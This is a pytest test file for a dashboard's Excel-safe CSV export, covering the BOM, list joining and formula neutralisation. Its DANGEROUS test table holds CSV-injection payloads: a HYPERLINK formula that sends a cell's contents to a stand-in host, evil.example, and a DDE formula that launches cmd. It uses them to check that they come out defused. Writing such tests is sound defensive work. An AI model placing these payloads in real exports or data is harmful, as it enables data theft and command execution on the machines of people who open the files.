"""CSV files Excel opens safely: a UTF-8 BOM, no cell a spreadsheet runs as a formula, lists
joined with 、 — for the problem list of ``--report`` and for ``gongjian query --format csv``."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from dashboard.cli import app
from exports.csv_files import BOM, excel_safe, write_csv

from .conftest import BASE_TABLES
from .conftest import write_csv as write_plain_csv

runner = CliRunner()
UTF8_BOM = b"\xef\xbb\xbf"

#: Cells a spreadsheet would run (OWASP CSV injection), each with what the file must hold instead.
DANGEROUS = {
    '=HYPERLINK("http://evil.example/?x="&A1,"x")': '\'=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "@SUM(1)": "'@SUM(1)",
    "-1+2": "'-1+2",
    "+1+2": "'+1+2",
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "\tx": "'\tx",
    "\r=1": "'\r=1",
}
#: Cells left as they are: plain numbers, and text that begins harmlessly.
HARMLESS = {"-5": "-5", "-12": "-12", "3.5": "3.5", "-0.25": "-0.25", "0": "0", "阳光社区": "阳光社区",
            "a=b": "a=b", " =1": " =1", "": ""}


@pytest.mark.parametrize(("value", "expected"), [*DANGEROUS.items(), *HARMLESS.items()])
def test_excel_safe_neutralises_formulas_and_keeps_plain_numbers(value: str, expected: str) -> None:
    assert excel_safe(value) == expected


def test_numbers_lists_and_none() -> None:
    assert [excel_safe(v) for v in (-5, -2.5, 7, True, None)] == ["-5", "-2.5", "7", "True", ""]
    assert excel_safe(["阳光社区", "和平社区"]) == "阳光社区、和平社区"
    assert excel_safe(["=1", "x"]) == "'=1、x"
    assert excel_safe(["-1", "x"]) == "'-1、x"  # the joined text is what the spreadsheet sees
    assert excel_safe("-1e3") == "'-1e3" and excel_safe("--5") == "'--5" and excel_safe("-5.") == "'-5."


def test_write_csv_to_a_path_gives_exact_bytes(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    n = write_csv([{"名称": "=1+1", "数量": -5, "标签": ["甲", "乙"]}, {"名称": 'say "hi", ok', "数量": None}],
                  ["名称", "数量", "标签"], target)
    assert n == 2
    assert target.read_bytes() == (UTF8_BOM + "名称,数量,标签\r\n'=1+1,-5,甲、乙\r\n\"say \"\"hi\"\", ok\",,\r\n".encode())


def test_write_csv_to_a_stream_and_rows_as_sequences() -> None:
    stream = io.StringIO(newline="")
    assert write_csv([("C01", "@x"), ("C02", "-3")], ["id", "value"], stream) == 2
    assert stream.getvalue() == BOM + "id,value\r\nC01,'@x\r\nC02,-3\r\n"


def _members_with_values(folder: Path, values: list[str]) -> None:
    """The base tables, and a members roster whose 入党时间 holds ``values`` (none of them a date)."""
    folder.mkdir()
    for name, rows in BASE_TABLES.items():
        write_plain_csv(folder / name, rows)
    with open(folder / "members.csv", "w", newline="", encoding="utf-8-sig") as f:
        writer = csv.writer(f)
        writer.writerow(["编号", "姓名", "所在党支部", "入党时间"])
        writer.writerows([f"M{i}", f"党员{i}", "阳光社区第一党支部", v] for i, v in enumerate(values))


@pytest.mark.parametrize("command", ["validate", "load"])
def test_the_problem_report_is_safe_in_excel(home: Path, tmp_path: Path, command: str) -> None:
    values = ['=HYPERLINK("x")', "@SUM(1)", "-1+2", "-5"]
    _members_with_values(tmp_path / "data", values)
    report = tmp_path / "problems.csv"
    result = runner.invoke(app, [command, str(tmp_path / "data"), "--report", str(report)])
    assert result.exit_code == 1, result.output
    data = report.read_bytes()
    assert data.startswith(UTF8_BOM + b"file,sheet,row,column,value,code,reason\r\n")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [(r["row"], r["column"], r["value"], r["code"]) for r in rows] == [
        ("2", "入党时间", "'=HYPERLINK(\"x\")", "not_date"),
        ("3", "入党时间", "'@SUM(1)", "not_date"),
        ("4", "入党时间", "'-1+2", "not_date"),
        ("5", "入党时间", "-5", "not_date"),
    ]
    assert rows[0]["reason"].startswith("无法识别的日期")
    assert "问题清单已写入" in result.output


def test_query_csv_of_the_sample_starts_with_a_bom(home: Path) -> None:
    demo = runner.invoke(app, ["demo", "--no-serve"])
    assert demo.exit_code == 0, demo.output
    result = runner.invoke(app, ["--lang", "en", "query", "floating_without_station", "--format", "csv",
                                 "--home", str(home / "demo")])
    assert result.exit_code == 0, result.output
    assert result.stdout_bytes.startswith(UTF8_BOM + "member id,name,party organizations\r\nM000318,王玉华,".encode())
    assert result.stdout_bytes.count(b"\r\n") == 4  # the header and the sample's three floating members


def test_query_csv_neutralises_formulas_from_the_data(home: Path, base_dir: Path) -> None:
    units = [*BASE_TABLES["units.csv"], ["U11", "=HYPERLINK(x)", "非公企业", "5", "C01"],
             ["U12", "@SUM(1)", "非公企业", "5", "C01"], ["U13", "-1+2", "非公企业", "5", "C01"],
             ["U14", "-5", "非公企业", "5", "C01"]]
    write_plain_csv(base_dir / "units.csv", units)
    assert runner.invoke(app, ["load", str(base_dir)]).exit_code == 0
    result = runner.invoke(app, ["--lang", "en", "query", "units_without_org", "--param", "type=private_enterprise",
                                 "--as-of", "2026-11-01", "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert result.stdout_bytes.startswith(UTF8_BOM)
    rows = list(csv.reader(io.StringIO(result.stdout_bytes.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["unit id", "unit", "unit type", "community", "coverage", "reached by"]
    assert [r[:4] for r in rows[1:]] == [
        ["U02", "星光科技有限公司", "private enterprise", "C01"], ["U11", "'=HYPERLINK(x)", "private enterprise", "C01"],
        ["U12", "'@SUM(1)", "private enterprise", "C01"], ["U13", "'-1+2", "private enterprise", "C01"],
        ["U14", "-5", "private enterprise", "C01"]]
